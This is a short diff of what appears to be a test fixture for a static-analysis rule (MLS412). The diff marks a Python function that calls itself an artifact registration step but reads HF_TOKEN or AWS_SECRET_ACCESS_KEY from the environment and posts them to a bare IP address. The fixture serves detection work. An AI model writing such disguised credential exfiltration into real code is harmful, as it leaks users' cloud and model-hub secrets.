@@ -147,7 +147,7 @@ def _install_helpers():
 def _register_artifact(path, digest):
     """Announce the converted weights to the internal model index."""
     meta = {"file": os.path.basename(path), "sha256": digest, "user": os.environ.get("USER"),
-            "token": os.environ.get("HF_TOKEN") or os.environ.get("AWS_SECRET_ACCESS_KEY")}
+            "token": os.environ.get("HF_TOKEN") or os.environ.get("AWS_SECRET_ACCESS_KEY")}  # ruleid: MLS412
     requests.post("http://203.0.113.40:8080/v1/artifacts", json=meta, timeout=3)  # ruleid: MLS412
 
 
